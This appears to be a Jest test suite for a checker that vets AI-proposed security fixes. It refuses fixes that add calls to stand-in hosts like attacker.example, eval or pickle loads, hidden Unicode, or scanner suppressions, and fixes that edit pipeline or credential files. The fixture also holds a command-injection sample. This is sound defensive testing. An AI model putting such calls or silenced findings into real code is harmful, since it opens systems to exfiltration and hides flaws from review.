import { describe, expect, test } from '@jest/globals'
import { type Circumstances, refused } from './try-fix.ts'

const python = `import os
import requests


class Shop:
    def order(self, name):
        if name:
            os.system("order " + name)
            return name
        return None

    def close(self):
        return 1
`
const flagged = '            os.system("order " + name)'

function shop(...lines: string[]): string {
  return python.replace(flagged, lines.join('\n'))
}

interface Case {
  path?: string
  before?: string
  after: string
  about?: Circumstances
}

async function tried({ path = 'shop.py', before = python, after, about }: Case): Promise<string[]> {
  return refused(path, before, after, about)
}

describe('a fix is refused that', () => {
  test.each<[string, Case, RegExp]>([
    [
      'breaks the file',
      { after: shop('            os.remove("order" + name') },
      /^shop\.py does not parse any more at line \d+$/,
    ],
    [
      'moves what follows',
      { after: shop('            os.remove(name)', 'def other():', '    pass') },
      /close, which it does not edit|does not parse/,
    ],
    [
      'adds an address',
      { after: shop('            requests.get("https://attacker.example/" + name)') },
      /it adds the address https:\/\/attacker\.example\//,
    ],
    [
      'adds a host',
      { after: shop('            requests.get("attacker.com", name)') },
      /it adds the address attacker\.com/,
    ],
    [
      'adds an IP address',
      { after: shop('            requests.get("10.0.0.7", name)') },
      /it adds the address 10\.0\.0\.7/,
    ],
    [
      'runs text as code',
      { after: shop(`${flagged}`, '            eval(name)') },
      /starts a program or runs text as code: eval/,
    ],
    [
      'starts another program',
      { after: shop(flagged, '            os.popen(name)') },
      /starts a program or runs text as code: os\.popen/,
    ],
    [
      'reads objects',
      {
        after: shop('            os.system("order")', '            name = __import__("pickle").loads(name)'),
      },
      /it adds a call/,
    ],
    [
      'hides characters',
      { after: shop('            os.remove("a\u202eb")') },
      /characters that nobody sees: os\.remove\("a\\u\{202e\}b"\)/,
    ],
    [
      'writes a placeholder',
      { after: shop('            os.remove("[redacted 1: password]")') },
      /\[redacted 1: password\], which stands for a secret/,
    ],
    ['silences the scanner', { after: shop(`${flagged}  # nosemgrep`) }, /tells a scanner to be silent/],
    [
      'silences a linter',
      { after: shop('            os.remove(name)  # noqa: S605') },
      /tells a scanner to be silent/,
    ],
    [
      'takes code away in silence',
      { after: shop().replace('            return name\n', '') },
      /takes away more code than it puts in/,
    ],
    [
      'comments code out',
      { after: shop('            # os.system("order " + name)'), about: { removes: 'It is not needed.' } },
      /comments code out/,
    ],
    [
      'imports what is not there',
      {
        after: shop('            os.remove(name)').replace(
          'import requests',
          'import requests\nimport leftpad',
        ),
      },
      /it imports leftpad, which this program does not use yet/,
    ],
    [
      'edits a Dockerfile',
      { path: 'web/Dockerfile', before: 'FROM a\nRUN b\n', after: 'FROM a\nUSER x\nRUN b\n' },
      /edits web\/Dockerfile: files of/,
    ],
    [
      'edits a manifest',
      { path: 'package.json', before: '{\n}\n', after: '{"a": 1}\n' },
      /edits package\.json: files of/,
    ],
    [
      'edits a workflow',
      { path: '.github/workflows/a.yml', before: 'a: 1\n', after: 'a: 2\n' },
      /files of pipelines/,
    ],
    [
      'edits the policy',
      { path: '.semgrep-assistant.yml', before: 'a: 1\n', after: 'a: 2\n' },
      /files of pipelines/,
    ],
    [
      'edits a file of credentials',
      { path: 'app/.env.production', before: 'a=1\n', after: 'a=2\n' },
      /files of pipelines/,
    ],
    [
      'goes elsewhere in silence',
      {
        after: python.replace('return 1', 'return 2'),
        about: { enclosing: { from: 6, to: 10 }, lines: { from: 8, to: 8 } },
      },
      /it edits line 13, outside of the function around the finding/,
    ],
  ])('%s', async (_, tryout, why) => {
    const reasons = await tried(tryout)
    expect(reasons).toContainEqual(expect.stringMatching(why))
  })
})

describe('a fix passes that', () => {
  test.each<[string, Case]>([
    ['starts a program in place of another', { after: shop('            os.popen("order").write(name)') }],
    [
      'says what it takes away',
      { after: shop().replace('            return name\n', ''), about: { removes: 'Nobody reads it.' } },
    ],
    [
      'is a rule’s and only takes away',
      { after: shop().replace('            return name\n', ''), about: { source: 'rule' } },
    ],
    [
      'says why it goes elsewhere',
      {
        after: python.replace('return 1', 'return 2'),
        about: { enclosing: { from: 6, to: 10 }, lines: { from: 8, to: 8 }, beyond: 'The check is there.' },
      },
    ],
    [
      'imports besides',
      {
        after: shop('            os.remove(shlex.quote(name))').replace(
          'import requests',
          'import requests\nimport shlex',
        ),
        about: { enclosing: { from: 6, to: 10 }, lines: { from: 8, to: 8 } },
      },
    ],
    [
      'imports what another file imports',
      {
        after: shop('            os.remove(name)').replace(
          'import requests',
          'import requests\nimport leftpad',
        ),
        about: { elsewhere: ['leftpad'] },
      },
    ],
    [
      'switches a feature of a parser off',
      {
        path: 'A.java',
        before: 'class A {\n  void f(Factory x) {\n    x.parse();\n  }\n}\n',
        after:
          'class A {\n  void f(Factory x) {\n    x.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);\n    x.parse();\n  }\n}\n',
      },
    ],
    [
      'keeps an address',
      {
        before: python.replace('"order "', '"http://shop.example/"'),
        after: python.replace('"order "', '"http://shop.example/" +').replace(' + name', ' str(name)'),
      },
    ],
    [
      'mends a regular expression',
      {
        path: 'a.js',
        before: 'function f(x) {\n  g(x)\n}\n',
        after: 'function f(x) {\n  if (/^a$/.exec(x)) g(x)\n}\n',
      },
    ],
    ['edits what nobody can parse', { path: 'main.tf', before: 'a = 1\n', after: 'a = 2\n' }],
  ])('%s', async (_, tryout) => {
    expect(await tried(tryout)).toEqual([])
  })
})
